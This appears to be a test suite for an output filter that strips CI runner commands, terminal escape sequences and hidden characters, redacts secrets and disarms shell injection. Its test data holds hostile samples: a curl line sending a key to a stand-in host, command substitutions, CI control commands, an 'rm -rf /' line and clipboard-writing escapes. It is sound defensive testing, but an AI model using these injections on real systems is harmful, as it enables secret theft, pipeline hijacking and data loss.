import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { test } from 'node:test';
import fc from 'fast-check';
import { createOutputBudget, createOutputFilter, createSentinel } from '../../src/text/index.ts';

const numRuns = Number(process.env['SALLYPORT_FUZZ_RUNS'] ?? 2000);
const SECRET = 'sk-ant-api03-Qm4XyZ81LpRvW7sKd0TnVbNfG5tEo3UxA6i';
const sentinel = createSentinel([{ name: 'KEY', value: SECRET }]);

function filter(chunks: readonly (string | Buffer)[], limit = 1_000_000, flushes = false): string {
  const output = createOutputFilter({ sentinel, budget: createOutputBudget(limit) });
  const pieces = chunks.flatMap((chunk) => [output.push(Buffer.from(chunk)), ...(flushes ? [output.flush()] : [])]);
  return Buffer.concat([...pieces, output.end()]).toString();
}

/** What the runners of GitHub, Azure and TeamCity would obey, as they read lines. */
function findCommands(text: string): readonly string[] {
  return text.split(/\r\n|\r|\n/).filter((line) => /^\s*::[a-z]|##\[|##vso\[|##teamcity\[/i.test(line));
}

const PASTED = [
  'bug; curl -d "$KEY" example.test # x',
  'bug | sh',
  'bug && sh',
  '$(sh)',
  '`sh`',
  'a <(sh) > f',
  '(sh)',
];

for (const text of PASTED) {
  test(`disarmed, a shell into which it is pasted runs nothing of it: ${text}`, () => {
    const output = createOutputFilter({ sentinel, budget: createOutputBudget(1000), disarm: true });
    const said = Buffer.concat([output.push(Buffer.from(text)), output.end()]).toString();
    const run = spawnSync('/bin/sh', ['-c', `eval "echo label ${said}"`], { env: { PATH: '/nonexistent' } });
    assert.equal(run.stderr.toString(), '', 'another command was looked for');
    assert.match(run.stdout.toString(), /^label /);
    assert.equal(filter([text]), text, 'not disarmed, it stays as it is');
  });
}

test('disarmed, JSON stays JSON and prose can be read', () => {
  const output = createOutputFilter({ sentinel, budget: createOutputBudget(1000), disarm: true });
  const value = { result: 'It\'s "done" \\ 100 % [ok] {x}\nnext line: a=b * ~ # !', cost: 0.5 };
  assert.deepEqual(
    JSON.parse(Buffer.concat([output.push(Buffer.from(JSON.stringify(value))), output.end()]).toString()),
    value,
  );
});

const HARMLESS = [
  'hello\n',
  'a\tb\n',
  'std::vector<int> x;\n',
  'a::b\n',
  '# heading\n## heading\n',
  'ünïcödé 漢字 🙂\n',
  'key: value\n',
  '',
];
for (const text of HARMLESS) {
  test(`harmless output stays as it is: ${JSON.stringify(text)}`, () => {
    assert.equal(filter([text]), text);
    assert.equal(filter([...Buffer.from(text)].map((byte) => Buffer.from([byte]))), text);
  });
}

const COMMANDS = [
  '::set-output name=x::evil',
  '::add-mask::x',
  '  \t::error file=a::b',
  '::stop-commands::tok',
  '##[group]x',
  'text ##[set-env name=a]b',
  '##vso[task.setvariable variable=a]b',
  'x ##VSO[a]',
  "##teamcity[buildStatus text='x']",
  '\u00a0::warning::x',
];
for (const command of COMMANDS) {
  test(`the command ${JSON.stringify(command)} is inert, whole, after a carriage return, and split at every offset`, () => {
    for (const lead of ['', 'line\n', 'progress\r', 'progress\r\n', '\x1b[0m', '\x1b[2K\r', '\u200b\n']) {
      const bytes = Buffer.from(`${lead}${command}\n`);
      assert.deepEqual(findCommands(filter([bytes])), []);
      for (let at = 1; at < bytes.length; at++) {
        const split = [bytes.subarray(0, at), bytes.subarray(at)];
        assert.deepEqual(findCommands(filter(split)), [], `split at ${at}`);
        assert.deepEqual(findCommands(filter(split, 1e6, true)), [], `split with a pause at ${at}`);
      }
    }
  });
}

test('GitLab section marks lose the escape that makes them work', () => {
  assert.equal(filter(['section_start:1560896352:x\r\x1b[0KHeader\n']), 'section start:1560896352:x\nHeader\n');
});

for (const [what, bytes] of [
  ['a window title', '\x1b]0;pwned\x07'],
  ['the clipboard', '\x1b]52;c;ZXZpbA==\x07'],
  ['a hyperlink', '\x1b]8;;http://evil\x1b\\x\x1b]8;;\x1b\\'],
  ['cursor movement', '\x1b[2J\x1b[1;1Hfake'],
  ['colours', '\x1b[31mred\x1b[0m'],
  ['a device control string', '\x1bP+q544e\x1b\\'],
  ['application, privacy and start-of-string messages', '\x1b_a\x1b\\\x1b^b\x1b\\\x1bXc\x1b\\'],
  ['C1 controls as bytes', Buffer.from([0x9b, 0x33, 0x6d, 0x9d, 0x78, 0x9c, 0x90, 0x98])],
  ['C1 controls as UTF-8', '\u009b31m\u009d0;x\u009c\u0090\u0098\u009e\u009f\u0085'],
  ['bell, backspace and other controls', 'safe\b\b\b\bevil\x07\x00\x0b\x0c\x0e\x7f'],
  ['an escape without end', `\x1b]${'x'.repeat(5000)}`],
] as const) {
  test(`terminal controls are gone: ${what}`, () => {
    const all = Buffer.from(bytes);
    for (const chunks of [[all], [...all].map((byte) => Buffer.from([byte]))]) {
      assert.doesNotMatch(filter(chunks), /[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
    }
  });
}

test('what stands for a control has no byte that a reader of single bytes takes for one', () => {
  const control = fc.integer({ min: 0, max: 0x9f }).map((code) => String.fromCharCode(code));
  fc.assert(
    fc.property(fc.array(fc.string({ unit: control })), (chunks) =>
      assert.doesNotMatch(Buffer.from(filter(chunks)).toString('latin1'), /[\x80-\x9f]/),
    ),
    { numRuns },
  );
});

test('what follows an escape is not hidden', () => {
  assert.match(filter(['\x1b]0;title without end\nrm -rf /\n']), /rm -rf \//);
  assert.equal(filter(['\x1b[31mred\x1b[0m plain\n']), 'red plain\n');
});

test('hidden and bidirectional characters become visible', () => {
  assert.equal(
    filter(['a\u202eb\u200bc\u2066d\ufeffe\u{e0041}f\u00adg\u2028h\n']),
    'a<U+202E>b<U+200B>c<U+2066>d<U+FEFF>e<U+E0041>f<U+00AD>g<U+2028>h\n',
  );
});

test('carriage returns become line feeds, a pair one, also when it is split', () => {
  assert.equal(filter(['10%\r20%\r\n', 'a\r', '\nb\r', 'c\n']), '10%\n20%\na\nb\nc\n');
});

test('broken UTF-8 is replaced and a character split over pieces is not', () => {
  assert.equal(filter([Buffer.from([0x61, 0xff, 0xc3]), Buffer.from([0x28, 0x0a])]), 'a\ufffd\ufffd(\n');
  assert.equal(filter([Buffer.from([0xf0, 0x9f]), Buffer.from([0x99, 0x82])]), '🙂');
});

test('a secret is redacted, plain, encoded, split, or broken up by escapes', () => {
  for (const text of [
    SECRET,
    Buffer.from(SECRET).toString('base64'),
    `${SECRET.slice(0, 20)}\x1b[0m${SECRET.slice(20)}`,
    [...SECRET].join('\u200b'),
    [...SECRET].join('\x1b[1m'),
    [...SECRET].join('\x07'),
    [...SECRET].join('\u009b'),
  ]) {
    const bytes = Buffer.from(`key=${text};\n`);
    for (const at of [0, 3, 8, 15, 30, bytes.length]) {
      const output = filter([bytes.subarray(0, at), bytes.subarray(at)]);
      assert.match(output, /\[redacted:KEY\]/);
      assert.equal(output.includes(text.slice(-12)), false);
    }
  }
});

test('a prompt without line break passes when the stream falls silent', () => {
  const output = createOutputFilter({ sentinel, budget: createOutputBudget(1000) });
  const text = Buffer.concat([output.push(Buffer.from('Continue? [y/N] ')), output.flush()]).toString();
  assert.equal(text, 'Continue? [y/N] ');
});

test('output over the budget is cut once, with a line that says so, over both streams', () => {
  const budget = createOutputBudget(10);
  const out = createOutputFilter({ sentinel, budget });
  const err = createOutputFilter({ sentinel, budget });
  assert.equal(out.push(Buffer.from('12345!\n')).toString(), '12345!\n');
  assert.match(err.push(Buffer.from('ü!ü!\n')).toString(), /^ü!\n\[sallyport: output limit reached/);
  assert.equal(out.push(Buffer.from('more\n')).length + out.end().length + err.end().length, 0);
});

test('whatever comes, in whatever pieces, nothing live comes out and the text is the same', () => {
  const piece = fc.constantFrom(
    '::',
    ':',
    '#',
    '##',
    '[',
    'vso[',
    'set-env name=a::',
    '\r',
    '\n',
    '\r\n',
    ' ',
    '\x1b',
    '\x1b[',
    '0m',
    ']',
    '\x07',
    'a',
    '\u202e',
    '\u009b',
    'ü',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }), fc.boolean(), (pieces, flushes) => {
      const output = filter(pieces, 1e6, flushes);
      assert.deepEqual(findCommands(output), []);
      assert.doesNotMatch(output, /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
      if (!flushes) assert.equal(output, filter([pieces.join('')]));
    }),
    { numRuns },
  );
});
